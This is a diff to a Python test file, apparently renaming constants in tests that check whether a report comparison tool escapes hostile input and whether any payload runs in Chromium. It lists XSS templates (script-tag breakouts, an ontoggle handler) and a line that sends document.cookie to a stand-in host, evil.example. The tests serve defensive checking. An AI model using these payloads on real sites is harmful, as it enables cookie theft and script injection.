@@ -21,7 +21,7 @@ from data_gen.shards import write_dataset
 from wizard_jax.report import comparison
 
 _CALLS = ("alert(1)", "fetch('https://evil.example/?'+document.cookie)")
-_FORMS = (
+FORMS = (
     "<script>{}</script>",
     "</pre><script>{}</script>",
     "</td></tr></table><script>{}</script>",
@@ -48,7 +48,7 @@ _FORMS = (
     "&lt;script&gt;{}&lt;/script&gt;<script>{0}</script>",
     "<details open ontoggle={}>",
 )
-HOSTILE = tuple(form.replace("{0}", "{}").replace("{}", call) for form, call in itertools.product(_FORMS, _CALLS))
+HOSTILE = tuple(form.replace("{0}", "{}").replace("{}", call) for form, call in itertools.product(FORMS, _CALLS))
 
 
 COLUMNS = ("operation", "rule", "evidence", "instruction", "answer", "source")
@@ -162,7 +162,7 @@ def test_hostile_labels_and_answers_are_only_text_in_a_comparison(tmp_path: Path
 # --- in a browser
 
 CHROMIUM = shutil.which("chromium")
-_LEAVES_A_MARK = "document.documentElement.setAttribute(`data-ran`,1)"
+LEAVES_A_MARK = "document.documentElement.setAttribute(`data-ran`,1)"
 
 
 def in_browser(target: Path, *, profile: Path, width: int = 800) -> str:
@@ -183,7 +183,7 @@ def ran(dom: str) -> bool:
 @pytest.mark.slow
 @pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here")
 def test_no_payload_runs_in_a_browser_and_the_search_does(tmp_path: Path) -> None:
-    texts = tuple(form.replace("{0}", "{}").replace("{}", _LEAVES_A_MARK) for form in _FORMS)
+    texts = tuple(form.replace("{0}", "{}").replace("{}", LEAVES_A_MARK) for form in FORMS)
     target, profile = hostile_data_set(tmp_path, texts), tmp_path / "profile"
     dom = in_browser(target, profile=profile)
     lineages = len(texts) // 2 + 1 + len(texts)
